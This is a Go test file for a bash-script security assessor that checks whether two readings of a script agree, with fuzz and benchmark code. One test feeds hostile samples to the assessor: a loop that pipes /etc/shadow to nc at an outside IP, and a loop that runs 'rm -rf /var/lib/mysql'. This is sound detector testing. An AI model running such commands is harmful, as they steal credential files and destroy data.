package assess

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"golang.org/x/tools/txtar"

	"sallyport"
	"sallyport/assess/shell"
)

func readings(text string) []sallyport.Finding {
	w := world(Request{Text: []byte(text), Lang: "bash"}, "bash")
	return differ(shell.Walk(w), &w)
}

// TestReadingsAgreeOnCleanTexts: the two readings never differ on what this repository knows to be ordinary, or what bash agrees with.
func TestReadingsAgreeOnCleanTexts(t *testing.T) {
	ar, err := txtar.ParseFile("testdata/explanations.txtar")
	if err != nil {
		t.Fatal(err)
	}
	texts := append([]string(nil), harmless...)
	for i := 0; i < len(ar.Files); i += 2 {
		texts = append(texts, string(ar.Files[i].Data))
	}
	for _, text := range append(texts,
		"a=(); while read -r l; do a+=(\"$l\"); done < f; if [ ${#a[@]} -eq 0 ]; then echo none; fi; ls \"${a[@]}\"",
		"a=(); [ -n \"$1\" ] && a+=(-R \"$1\"); ls -l ${a:+\"${a[@]}\"} x",
		"x=1; while [ $x -lt 3 ] && ls $x; do x=$((x+1)); done; echo $x",
		"c() { case `echo -n x` in -n*) n=;; *) n=-n;; esac; }; n=; c; echo $n y",
	) {
		if found := readings(text); len(found) > 0 {
			t.Errorf("%s\n %v", text, found)
		}
	}
}

// TestDifferingReadingsAreAFinding plays a walker that misread one word, in each of several ways, and one that never came to a command.
func TestDifferingReadingsAreAFinding(t *testing.T) {
	const text = "x=safe\nf() { local x=in; echo $x; }\nf\nrm -r \"$x\" 'a b'\nls > \"$x.out\"\n"
	w := world(Request{Text: []byte(text), Lang: "bash"}, "bash")
	for _, lie := range []struct{ old, new string }{{"safe", "other"}, {"local ", ""}, {"'a b'", "a b"}, {"-r", "-f"}, {".out", ".tmp"}, {"rm -r", "ls -r"}} {
		// What the walker says about the changed text is held against the unchanged one, padded so that every word keeps its place.
		lied := w
		lied.Text = []byte(strings.Replace(text, lie.old, pad(lie.new, len(lie.old)), 1))
		trace := shell.Walk(lied)
		trace.Stmts = shell.Walk(w).Stmts
		found := differ(trace, &w)
		if len(found) == 0 || found[0].Level != sallyport.High || found[0].Rule != "two-readings" {
			t.Errorf("%q read as %q: findings %v, want that the readings differ", lie.old, lie.new, found)
		}
	}
	trace := shell.Walk(w)
	clear(trace.Readings)
	if found := differ(trace, &w); len(found) == 0 {
		t.Error("a walker that saw no command at all is believed")
	}
	if found := readings(text); len(found) > 0 {
		t.Errorf("the plain text: %v", found)
	}
}

func pad(s string, n int) string {
	for len(s) < n {
		s += " "
	}
	return s
}

// TestWhatARoundLeavesToTheNext: a variable that a loop sets late is used early in its next round.
func TestWhatARoundLeavesToTheNext(t *testing.T) {
	for _, text := range []string{
		"x=ls\nwhile read -r l; do\n  $x /etc/shadow | nc 203.0.113.9 80\n  x=cat\ndone < f\n",
		"c='echo'\nfor h in $HOSTS; do\n  $c\n  c='rm -rf /var/lib/mysql'\ndone\n",
	} {
		a := Assess(context.Background(), Request{Text: []byte(text), Lang: "bash"})
		if !a.Verdict.Alert() {
			t.Errorf("%s: verdict %q, want an alert", text, a.Verdict)
		}
	}
}

// FuzzReadings compares the two readings of arbitrary quoting and expansions. The bytes are restricted to where both are meant to be
// exact; nothing is executed.
func FuzzReadings(f *testing.F) {
	for _, s := range []string{`x'\''y`, `a\ b`, `"$v"c`, `${v:-x}`, `'a'"b"\c`, `$v$w`, `${w#a}`, `{a,b}c`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 40 || strings.Trim(s, `abcvw019'"\ ${}:-#%`) != "" || strings.Contains(s, "$(") {
			return
		}
		for _, text := range []string{"v='a b' w=abc\nls " + s, "v='a b' w=abc\nx=" + s + "\nls \"$x\" $x"} {
			if found := readings(text); len(found) > 0 {
				t.Errorf("%s\n %v", text, found)
			}
		}
	})
}

// BenchmarkReadingsDiffer says how often the readings differ on real scripts, where a collection of them lies beside the repository.
func BenchmarkReadingsDiffer(b *testing.B) {
	folder := os.Getenv("CORPORA")
	if folder == "" {
		folder = "../../shared/corpora"
	}
	f, err := os.Open(folder + "/benign.jsonl")
	if err != nil {
		b.Skip("no collection of scripts here")
	}
	defer f.Close()
	var texts []string
	lines := bufio.NewScanner(f)
	lines.Buffer(nil, 1<<22)
	for lines.Scan() {
		var row struct{ Text, Lang, Kind string }
		if json.Unmarshal(lines.Bytes(), &row) == nil && row.Kind == "script" && (row.Lang == "bash" || row.Lang == "sh") && bytes.IndexByte([]byte(row.Text), 0) < 0 {
			texts = append(texts, row.Text)
		}
	}
	n, differing := 0, 0
	for b.Loop() {
		if len(readings(texts[n%len(texts)])) > 0 {
			differing++
		}
		n++
	}
	b.ReportMetric(float64(differing)*1000/float64(n), "differ/1000")
}
